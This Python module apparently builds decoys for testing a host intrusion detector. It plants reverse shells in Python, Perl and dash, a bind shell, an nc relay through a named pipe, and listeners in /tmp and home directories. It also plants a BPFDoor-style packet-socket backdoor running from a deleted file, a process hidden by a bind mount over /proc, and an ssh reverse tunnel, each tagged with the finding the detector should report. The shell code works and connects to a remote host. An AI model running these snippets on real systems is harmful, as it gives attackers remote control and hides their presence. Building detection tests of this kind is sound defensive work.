"""Decoys that talk, or wait to: shells, relays, listeners and those who read packets."""

import decoys
from planted import CRITICAL, HIGH, MEDIUM, Table, Told
from range_box import program
from range_foreign import POOL_PORT, PORT
from range_machines import DASH, FAR, PERL, PYTHON, Host

SOCKETS: Table[Told] = Table()
_CONNECT = """
import os, socket, sys
address, port, ends, *argv = sys.argv[1:]
line = socket.create_connection((address, int(port)))
for end in ends:
    os.dup2(line.fileno(), int(end))
os.execv(argv[0], argv)
"""
_CALL = """
use Socket;
socket(LINE, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
connect(LINE, sockaddr_in($ARGV[1], inet_aton($ARGV[0]))) or die;
open(STDIN, "<&LINE"), open(STDOUT, ">&LINE"), open(STDERR, ">&LINE");
$ARGV[2] ? system(@ARGV[2..$#ARGV]) : sleep;
"""
_HAND_OUT = """
import socket, subprocess
with socket.create_server(("", 4444)) as server:
    line, _ = server.accept()
    subprocess.call(["dash", "-i"], stdin=line, stdout=line, stderr=line)
"""
_RELAY = f"""
mkfifo /run/relay
dash -i <>/run/relay 2>&1 | nc {FAR} {PORT} >/run/relay
"""
_PACKETS = """
import os, socket, sys
path, title = sys.argv[1:]
line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
os.set_inheritable(line.fileno(), True)
os.execv(path, [title, "100000"])
"""
_SNIFF = """
import socket, time
line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
time.sleep(100000)
"""
_HOLD = """
import socket, time
with socket.create_server(("127.0.0.1", 5432)) as server:
    kept = [server.accept()[0], time.sleep(100000)]
"""
_LISTEN = """
import os, socket, sys
line = socket.create_server(("", 31337))
os.set_inheritable(line.fileno(), True)
os.execv(sys.argv[1], sys.argv[1:])
"""


def _connected(host: Host, runs: str, port: int, ends: str, *last: str, address: str = FAR) -> int:
    code = host.run_file("/srv/connect.py", _CONNECT)
    return host.plant(PYTHON, code, address, str(port), ends, runs, *last, becomes=runs)


def _reads_packets(host: Host, path: str, title: str) -> int:
    host.write("/srv/packets.py", _PACKETS)
    return host.plant(PYTHON, "/srv/packets.py", host.copy("sleep", path), title, becomes=path)


@SOCKETS.plants(Told("HOST-NET-002", CRITICAL, DASH, slam_dunk=True))
def reverse_shell(host: Host) -> None:
    """A shell of the system's on a connection to another machine."""
    _connected(host, DASH, PORT, "012")


@SOCKETS.plants(
    Told("HOST-NET-002", CRITICAL, DASH, slam_dunk=True), Told("HOST-NET-002", HIGH, DASH)
)
def shell_in_shell(host: Host) -> None:
    """The same with a second shell below it: the topmost alone is certain."""
    host.shell("mkfifo /run/never")
    _connected(host, DASH, PORT, "012", "-c", f"{DASH} -c 'read _ </run/never'; :")
    host.wait(lambda: len(host.running("read _ </run/never")) > 1)


@SOCKETS.plants(
    Told("HOST-NET-002", CRITICAL, DASH, slam_dunk=True), Told("HOST-NET-002", HIGH, PERL)
)
def shell_below_perl(host: Host) -> None:
    """The usual one of perl and python: they take the connection over, then start a shell."""
    host.write("/srv/call.pl", _CALL)
    host.plant(PERL, "/srv/call.pl", FAR, str(PORT), "dash", "-i")
    host.wait(lambda: bool(host.running("dash -i")) and len(host.running("call.pl")) == 1)


@SOCKETS.plants(Told("HOST-NET-002", HIGH, PERL))
def perl_on_a_line(host: Host) -> None:
    """A script whose input and output are a connection that it opened, with no shell to be seen."""
    host.write("/srv/call.pl", _CALL)
    host.plant(PERL, "/srv/call.pl", FAR, str(PORT))
    host.wait(lambda: ":114E 01" in host.shell("cat /proc/net/tcp"))


@SOCKETS.plants(Told("HOST-NET-002", CRITICAL, DASH))
def bind_shell(host: Host) -> None:
    """A server that hands a shell to whoever connects: told, never acted on."""
    host.write("/srv/serve.py", _HAND_OUT)
    host.plant(PYTHON, "/srv/serve.py")
    host.call(4444)
    host.wait(lambda: bool(host.running("dash -i")))


@SOCKETS.plants(Told("HOST-NET-002", HIGH, DASH))
def loopback_shell(host: Host) -> None:
    """A shell on a connection to the host itself."""
    host.write("/srv/hold.py", _HOLD)
    host.plant(PYTHON, "/srv/hold.py")
    host.wait(lambda: host.listens(5432))
    _connected(host, DASH, 5432, "012", address="127.0.0.1")


@SOCKETS.plants(Told("HOST-NET-004", HIGH, DASH))
def relayed_shell(host: Host) -> None:
    """A shell between pipes, with nc behind them."""
    host.copy("busybox", "/usr/bin/nc")
    host.plant(DASH, host.run_file("/srv/relay", _RELAY))
    host.wait(lambda: bool(host.running(f"nc {FAR}")))


@SOCKETS.plants(Told("HOST-NET-001", HIGH, "/opt/tool/client"))
def pool_connection(host: Host) -> None:
    """A connection to a port that mining pools use."""
    _connected(host, host.copy("sleep", "/opt/tool/client"), POOL_PORT, "5", decoys.FOREVER)


@SOCKETS.plants(Told("HOST-NET-003", HIGH, "/tmp/back"))
def odd_listener(host: Host) -> None:
    """A program in /tmp that waits for connections."""
    host.write("/srv/listen.py", _LISTEN)
    copied = host.copy("sleep", "/tmp/back")
    host.plant(PYTHON, "/srv/listen.py", copied, decoys.FOREVER, becomes=copied)


@SOCKETS.plants(Told("HOST-NET-003", HIGH, "/home/ada/bin/agent"))
def listener_in_home(host: Host) -> None:
    """A program in a home that waits for connections, and no unit starts it."""
    host.write("/srv/listen.py", _LISTEN)
    copied = host.copy("sleep", "/home/ada/bin/agent")
    host.plant(PYTHON, "/srv/listen.py", copied, decoys.FOREVER, becomes=copied)


@SOCKETS.plants(Told("HOST-NET-005", MEDIUM, "/usr/local/sbin/sniff"))
def raw_socket(host: Host) -> None:
    """A program that no package brought and that reads every packet."""
    host.write("/srv/sniff.py", _SNIFF)
    host.plant(host.copy(PYTHON, "/usr/local/sbin/sniff"), "/srv/sniff.py")


@SOCKETS.plants(
    Told("HOST-EXE-001", HIGH, "/dev/shm/agent"), Told("HOST-NET-006", CRITICAL, "/dev/shm/agent")
)
def packet_backdoor(host: Host) -> None:
    """As BPFDoor does: from a deleted file, under a daemon's name, on a packet socket."""
    _reads_packets(host, "/dev/shm/agent", "/usr/libexec/postfix/master")
    host.path("/dev/shm/agent").unlink()


@SOCKETS.plants(Told("HOST-NET-006", CRITICAL, "/opt/tool/agent"))
def packets_as_daemon(host: Host) -> None:
    """The same with its file, called like sshd."""
    _reads_packets(host, "/opt/tool/agent", "sshd: root@notty")


@SOCKETS.plants(
    Told("HOST-NET-008", MEDIUM, "packet:0003"),
    Told("HOST-PROC-002", CRITICAL, "hidden process", slam_dunk=True),
)
def unheld_socket(host: Host) -> None:
    """A packet socket of a process that a mount hides."""
    pid = _reads_packets(host, "/opt/tool/agent", "/opt/tool/agent")
    host.shell('mkdir /mnt/empty; mount --bind /mnt/empty "/proc/$1"', str(pid))


@SOCKETS.plants(Told("HOST-NET-007", MEDIUM, "/usr/bin/ssh"))
def service_tunnel(host: Host) -> None:
    """A tunnel of ssh from the account of the web server."""
    who = ("--reuid=33", "--regid=33", "--clear-groups")
    tunnel = ("ssh", "-N", "-R", "9000:localhost:22", "-o", "ProxyCommand=sleep 100000", "far")
    host.plant(program("setpriv"), *who, *tunnel, becomes="/usr/bin/ssh")
